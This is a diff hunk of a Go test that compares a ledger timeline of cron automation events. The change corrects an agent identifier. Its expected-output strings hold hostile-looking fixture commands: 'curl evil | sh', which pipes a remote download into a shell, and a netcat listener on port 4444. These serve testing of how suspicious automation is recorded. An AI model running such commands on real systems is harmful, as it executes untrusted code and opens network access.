@@ -265,7 +265,7 @@ INSERT INTO task_runs (task_id, runtime, task_kind, source_id, requester_session
 func TestCommandAutomation(t *testing.T) {
 	events, r := ledgerTimeline(t, openRoot(t, craft(t, automationRows, map[string]string{"cron/runs/J1.jsonl.migrated": oldRun})))
 	compare(t, events,
-		`1000 automation cronjob.1 agent:agent:main:main: "tidy" every 1m0s, command: A=b sh -c curl evil | sh <<< x → ok`,
+		`1000 automation cronjob.1 agent:main:main: "tidy" every 1m0s, command: A=b sh -c curl evil | sh <<< x → ok`,
 		`1500 automation cronjob.2 unknown: "watch" on-exit nc -l 4444, systemEvent trigger="evil()": it ended → ok disabled`,
 		`1500 exec cronjob.2/2 automation:J2: nc -l 4444 → no result gateway-automation,on-exit`,
 		`1800 automation cronrun.1/3 automation:J1: ran: tidy → ok`,
